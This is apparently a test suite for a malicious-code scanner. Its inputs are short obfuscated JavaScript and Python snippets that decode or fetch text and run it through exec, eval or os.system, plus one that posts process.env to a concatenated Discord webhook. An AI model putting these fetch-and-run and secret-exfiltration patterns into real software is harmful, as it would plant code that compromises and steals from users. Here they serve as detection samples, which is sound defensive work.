"""The engine of the code checks: names are followed, text is folded, hostile files stay bounded."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from checks.code._databases import prepare, scan
from checks.code._engine import _languages
from checks.code._javascript import JavaScript
from checks.code._language import Language
from checks.code._python import Python
from checks.code._reading import Reader, Reading
from checks.code._rules import Book, load_book
from checks.code._scopes import _query
from checks.code._vocabulary import load_vocabulary

RESOURCES = Path(__file__).resolve().parents[3] / "resources"
SAMPLES = Path(__file__).resolve().parents[2] / "samples"
LANGUAGES = {"javascript": JavaScript(), "python": Python()}


@pytest.fixture(scope="session")
def databases(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("code-rules")
    prepare(RESOURCES, out)
    return out


def read(databases: Path, name: str, text: str | bytes) -> Reading:
    data = text.encode() if isinstance(text, str) else text
    book = load_book()
    hits, _ = scan(databases, name, data, 50_000)
    return Reader(data, LANGUAGES[name], name, load_vocabulary(name)).read(hits, book.computed, book.rules, None)


def rules(databases: Path, name: str, text: str) -> set[str]:
    reading = read(databases, name, text)
    assert not reading.incomplete
    return {reason.rule.id for reasons in reading.reasons.values() for reason in reasons}


@pytest.mark.parametrize(
    "text",
    [
        "const {exec: e} = require('child_process'); e(atob(x))",
        "import {exec as e} from 'node:child_process'; e(atob(x))",
        "import * as cp from 'child_process'; cp.exec(atob(x))",
        "const run = require('child_process').exec; const again = run; again(atob(x))",
        "require('child_' + 'process')['ex' + 'ec'](atob(x))",
        "const cp = require(['child', 'process'].join('_')); cp.exec.call(cp, atob(x))",
        "const n = ['child_process', 'exec']; require(n[0])[n[1]](atob(x))",
        "const d = (t) => Buffer.from(t, 'base64').toString(); require(d('Y2hpbGRfcHJvY2Vzcw==')).exec(atob(x))",
        "class A { #c = require('child_process'); run(x) { this.#c.exec(atob(x)); } }",
    ],
)
def test_javascript_names_are_followed(databases: Path, text: str) -> None:
    assert "runs_decoded_command" in rules(databases, "javascript", text)


@pytest.mark.parametrize(
    "text",
    [
        "import os as o\no.system(requests.get(u).text)",
        "from os import system as s\ns(requests.get(u).text)",
        "import os\ngetattr(os, 'sys' + 'tem')(requests.get(u).text)",
        "__import__('o' + 's').system(requests.get(u).text)",
        "import importlib\nm = importlib.import_module('os')\nm.system(requests.get(u).text)",
        "import os\nos.__dict__['system'](requests.get(u).text)",
    ],
)
def test_python_names_are_followed(databases: Path, text: str) -> None:
    assert "runs_fetched_command" in rules(databases, "python", "import requests\n" + text)


@pytest.mark.parametrize(
    "text",
    [
        "fetch(u).then(r => r.text()).then(eval)",
        "async function get() { return (await fetch(u)).text() } async function go() { eval(await get()) }",
        "h = require('https'); h.get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
        "const got = []; fetch(u).then(async r => { got.push(await r.text()); eval(got.join('')) })",
        "(0, eval)(await (await fetch(u)).text())",
        "globalThis['ev' + 'al'](await (await fetch(u)).text())",
        "const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText);",
    ],
)
def test_fetched_text_is_followed(databases: Path, text: str) -> None:
    assert "runs_fetched" in rules(databases, "javascript", text)


def test_another_variable_of_that_name_is_another(databases: Path) -> None:
    text = "async function a() { const t = await (await fetch(u)).text() } function b() { const t = '1 + 1'; eval(t) }"
    assert "runs_fetched" not in rules(databases, "javascript", text)


def test_comments_and_documentation_are_nothing(databases: Path) -> None:
    assert not rules(databases, "javascript", "// fetch(u).then(eval)\n/* eval(atob('x')) */")
    assert not rules(databases, "python", 'def f():\n    """exec(base64.b64decode(x)) and ~/.ssh/id_rsa"""\n')


def test_a_hidden_address_is_read(databases: Path) -> None:
    text = "const h = 'https://dis' + 'cord.com/api/web' + 'hooks/1/x'; fetch(h, {body: JSON.stringify(process.env)})"
    assert "sends_environment" in rules(databases, "javascript", text)


def test_deep_and_long_code_stays_bounded(databases: Path) -> None:
    for text in ("eval(" * 3000 + "atob(x)" + ")" * 3000, "eval(" + "+".join(["atob(x)"] * 5000) + ")"):
        read(databases, "javascript", text)
    chain = "\n".join(f"v{n} = v{n - 1}" for n in range(1, 2000))
    read(databases, "python", f"import base64\nv0 = base64.b64decode(x)\n{chain}\nexec(v1999)")


def test_a_wrong_rule_names_its_file(tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text('[[rule]]\nid = "x"\nsink = "y"\nmessage = "m"\nseverity = "awful"\n')
    with pytest.raises(ValueError, match=r"mine\.toml"):
        Book(tmp_path)


CODE = [p for p in sorted(SAMPLES.glob("*/flags/*")) if p.suffix in (".js", ".py")]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.data())
def test_damaged_code_is_read(databases: Path, data: st.DataObject) -> None:
    path = data.draw(st.sampled_from(CODE))
    raw = bytearray(path.read_bytes())
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at : at + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4))
        if not raw:
            return
    read(databases, "python" if path.suffix == ".py" else "javascript", bytes(raw))


def test_what_is_far_away_in_a_bundle_says_nothing(databases: Path) -> None:
    """A bundle holds everything somewhere; in a small file, or near, the same words belong together."""
    source, sink = "const t = atob(x);\n", "require('child_process').exec(t);\n"
    rest = "f(1);\n" * 100_000
    assert "runs_decoded_command" in rules(databases, "javascript", source + sink + rest)
    assert "runs_decoded_command" not in rules(databases, "javascript", source + rest + sink)
    assert "runs_decoded_command" in rules(databases, "javascript", source + rest[:300_000] + sink)


def test_what_a_mapped_call_cleans_does_not_flow(databases: Path) -> None:
    text = "require('child_process').exec('kill ' + %s.join(' '));"
    assert "runs_decoded_command" in rules(databases, "javascript", text % "atob(x).split(' ').map(String)")
    assert "runs_decoded_command" not in rules(databases, "javascript", text % "atob(x).split(' ').map(Number)")


@pytest.mark.parametrize(
    ("language", "grammar"),
    [pytest.param(one, grammar, id=grammar) for one in _languages() for grammar in sorted(set(one.grammars.values()))],
)
def test_definitions_fit_every_grammar_of_their_language(language: Language, grammar: str) -> None:
    assert _query(language, grammar).pattern_count > 0
